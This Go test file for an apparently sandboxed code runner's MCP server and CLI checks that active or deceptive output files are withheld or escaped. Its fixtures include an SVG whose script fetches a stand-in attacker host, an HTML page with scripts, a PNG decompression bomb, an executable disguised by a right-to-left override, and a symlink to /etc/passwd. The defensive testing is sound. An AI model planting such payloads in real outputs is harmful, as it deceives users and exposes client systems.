package main

import (
	"bytes"
	"encoding/json"
	"os"
	"os/exec"
	"strings"
	"testing"
	"time"
	"unicode"

	mcpgo "github.com/mark3labs/mcp-go/mcp"
)

// contentFiles writes, in the sandbox, the files of issue 13.8: an SVG
// with a script and an onload handler, an HTML page, a PNG whose header
// declares 100000×100000 pixels in 33 bytes, a PNG cut off in its header,
// a whole small PNG (the positive control), and an executable whose name
// reads as a PNG through a right-to-left override. DIR is where.
const contentFiles = `import os, struct, zlib
d = "DIR"
os.makedirs(d, exist_ok=True)
def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
def png(w, h, body=True):
    out = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 6, 0, 0, 0))
    if body:
        out += chunk(b"IDAT", zlib.compress(b"".join(b"\x00" + b"\xff\x00\x00\xff" * w for _ in range(h)))) + chunk(b"IEND", b"")
    return out
files = {
    "evil.svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(document.domain)'><script>fetch('https://attacker.invalid/')</script></svg>",
    "page.html": b"<html><body onload='alert(1)'><script>alert(2)</script></body></html>",
    "bomb.png": png(100000, 100000, body=False),
    "truncated.png": png(10, 10, body=False)[:20],
    "good.png": png(4, 3),
    "invoice\u202egnp.exe": b"MZ\x90\x00",
}
for name, data in files.items():
    open(os.path.join(d, name), "wb").write(data)
print("wrote", len(files))
`

// bidiShown is the bidi-named file as every result must show it.
const bidiShown = `invoice\u202egnp.exe`

// hasHidden reports a bidi override or another character that makes text
// read as something else (the format characters), or a control other than
// the line breaks and tabs of ordinary text.
func hasHidden(s string) bool {
	return strings.ContainsFunc(s, func(r rune) bool {
		return unicode.Is(unicode.Cf, r) || unicode.IsControl(r) && r != '\n' && r != '\t' && r != '\r'
	})
}

// TestThreatActiveContent: a program's output files come back to the
// client without active or deceptive content (issue 13.8). Over MCP,
// run_code's and read_file's results hold no SVG image, no text/html
// resource, no image whose header declares more than the pixel cap, and
// no file name with a bidi override; each says what it withheld. The
// CLI's --json shows the name escaped and decodes to the real one. A
// whole small PNG comes back as an image (the positive control). The
// CLI's text output names a file it did not copy escaped.
func TestThreatActiveContent(t *testing.T) {
	h := newThreatHarness(t)
	ts := h.server

	checkRunCode := func(t *testing.T, res *mcpgo.CallToolResult, out map[string]any) {
		t.Helper()
		images := 0
		for _, c := range res.Content {
			switch c := c.(type) {
			case mcpgo.ImageContent:
				images++
				if c.MIMEType != "image/png" {
					t.Errorf("image content of type %s", c.MIMEType)
				}
			case mcpgo.EmbeddedResource:
				var mime string
				switch r := c.Resource.(type) {
				case mcpgo.TextResourceContents:
					mime = r.MIMEType
				case mcpgo.BlobResourceContents:
					mime = r.MIMEType
				}
				if mime == "text/html" || mime == "image/svg+xml" || strings.HasPrefix(mime, "image/") {
					t.Errorf("a resource comes back as %s", mime)
				}
			case mcpgo.TextContent:
				if hasHidden(c.Text) {
					t.Errorf("text shows a hidden character: %q", c.Text)
				}
			}
		}
		// Only good.png is an image: the bomb and the cut-off PNG are not.
		if images != 1 {
			t.Errorf("%d images in the result, want only good.png", images)
		}
		want := map[string]struct{ withheld, skipped string }{
			"evil.svg":      {withheld: "SVG can carry scripts"},
			"page.html":     {withheld: "not returned as text/html"},
			"bomb.png":      {skipped: "declares 100000×100000 pixels, over the 25-megapixel cap"},
			"truncated.png": {withheld: "does not parse as PNG, JPEG or GIF"},
			"good.png":      {},
			bidiShown:       {},
		}
		files, _ := out["files"].([]any)
		if len(files) != len(want) {
			t.Fatalf("structured files %v, want %d", files, len(want))
		}
		for _, f := range files {
			f := f.(map[string]any)
			path, _ := f["path"].(string)
			w, ok := want[path]
			if !ok {
				t.Errorf("structured file %q (hidden characters: %v), want one of the files written", path, hasHidden(path))
				continue
			}
			withheld, _ := f["withheld"].(string)
			skipped, _ := f["skipped"].(string)
			if (w.withheld == "") != (withheld == "") || !strings.Contains(withheld, w.withheld) ||
				(w.skipped == "") != (skipped == "") || !strings.Contains(skipped, w.skipped) {
				t.Errorf("structured file %v, want withheld %q, skipped %q", f, w.withheld, w.skipped)
			}
			if path == bidiShown && f["name_escaped"] != true {
				t.Errorf("structured file %v does not say its name is escaped", f)
			}
		}
	}

	t.Run("run_code", func(t *testing.T) {
		r := h.runMCP(t, "python", strings.ReplaceAll(contentFiles, "DIR", "out"), 60*time.Second)
		if r.status != "ok" || !strings.Contains(r.stdout, "wrote 6") {
			t.Fatalf("the program did not write its files: %s %s", r.stdout, r.stderr)
		}
		checkRunCode(t, r.mcp, r.mcpOut)
	})

	t.Run("session", func(t *testing.T) {
		res, info := ts.tool(t, "create_session", map[string]any{"language": "python"})
		id, _ := info["session_id"].(string)
		if res.IsError || id == "" {
			t.Fatalf("create_session: %s", text(res))
		}
		defer ts.tool(t, "close_session", map[string]any{"session_id": id})
		r := mcpRun(t, ts, map[string]any{"language": "python", "session_id": id,
			"code": strings.ReplaceAll(contentFiles, "DIR", "out"), "timeout_seconds": 60})
		if r.status != "ok" {
			t.Fatalf("the program did not write its files: %s %s", r.stdout, r.stderr)
		}
		checkRunCode(t, r.mcp, r.mcpOut)

		res, out := ts.tool(t, "list_files", map[string]any{"session_id": id, "path": "out"})
		if res.IsError || hasHidden(text(res)) || !strings.Contains(text(res), bidiShown) {
			t.Errorf("list_files shows the name as %q, want %s", text(res), bidiShown)
		}
		if data, _ := json.Marshal(out); !strings.Contains(string(data), `invoice\\u202egnp.exe`) {
			t.Errorf("list_files structured %s, want the escaped name", data)
		}

		for _, tc := range []struct {
			path  string
			image bool   // comes back as image content
			note  string // a part of the note that says what was withheld
		}{
			{path: "out/good.png", image: true},
			{path: "out/evil.svg", note: "SVG can carry scripts"},
			{path: "out/page.html", note: "not returned as text/html"},
			{path: "out/bomb.png", note: "100000×100000 pixels"},
			{path: "out/truncated.png", note: "does not parse"},
			// The name as list_files shows it reads the file.
			{path: "out/" + bidiShown, note: "the name has invisible or control characters"},
		} {
			res, out := ts.tool(t, "read_file", map[string]any{"session_id": id, "path": tc.path})
			if res.IsError {
				t.Errorf("read_file %s: %s", tc.path, text(res))
				continue
			}
			image := false
			for _, c := range res.Content {
				switch c := c.(type) {
				case mcpgo.ImageContent:
					image = true
				case mcpgo.EmbeddedResource:
					if b, ok := c.Resource.(mcpgo.BlobResourceContents); ok && (strings.HasPrefix(b.MIMEType, "image/") || b.MIMEType == "text/html") {
						t.Errorf("read_file %s: a resource of type %s", tc.path, b.MIMEType)
					}
				}
			}
			if image != tc.image {
				t.Errorf("read_file %s: image content %v, want %v", tc.path, image, tc.image)
			}
			if tc.note != "" && !strings.Contains(text(res), tc.note) {
				t.Errorf("read_file %s: %q does not say %q", tc.path, text(res), tc.note)
			}
			if path, _ := out["path"].(string); hasHidden(path) || mimeOf(out) == "text/html" || mimeOf(out) == "image/svg+xml" {
				t.Errorf("read_file %s: structured %v", tc.path, out)
			}
		}
	})

	t.Run("cli json", func(t *testing.T) {
		r := h.runCLI(t, "python", strings.ReplaceAll(contentFiles, "DIR", "out"), 60*time.Second)
		if r.status != "ok" {
			t.Fatalf("the program did not write its files: %s %s", r.stdout, r.stderr)
		}
		if hasHidden(r.all) {
			t.Errorf("safe-run run --json prints a hidden character: %q", r.all)
		}
		if !strings.Contains(r.all, `"invoice\u202egnp.exe"`) {
			t.Errorf("safe-run run --json does not show the name escaped:\n%s", r.all)
		}
		found := false
		for _, f := range r.result.Files {
			found = found || f.Path == "invoice\u202egnp.exe"
		}
		if !found {
			t.Errorf("the JSON does not decode to the file's real name: %+v", r.result.Files)
		}
	})
	t.Run("cli text", func(t *testing.T) {
		// A link is never copied; the line that says so names it.
		code := `import os
os.makedirs("out", exist_ok=True)
os.symlink("/etc/passwd", "out/invoice\u202egnp.exe")`
		argv := append([]string{"run", "--state-dir", h.cliState, "--lang", "python", "--out", t.TempDir()}, h.cliLimitArgs...)
		cmd := exec.Command(h.bin, append(argv, "-c", code)...)
		cmd.Env = append(os.Environ(), h.env()...)
		var stderr bytes.Buffer
		cmd.Stderr = &stderr
		if err := cmd.Run(); err != nil {
			t.Fatalf("safe-run run: %v\n%s", err, stderr.String())
		}
		if hasHidden(stderr.String()) || !strings.Contains(stderr.String(), "out/"+bidiShown+" not copied: symbolic link") {
			t.Errorf("safe-run run's stderr %q, want the link named as %s", stderr.String(), bidiShown)
		}
	})
	h.assertHostClean(t)
}

func mimeOf(out map[string]any) string {
	m, _ := out["mime_type"].(string)
	return m
}
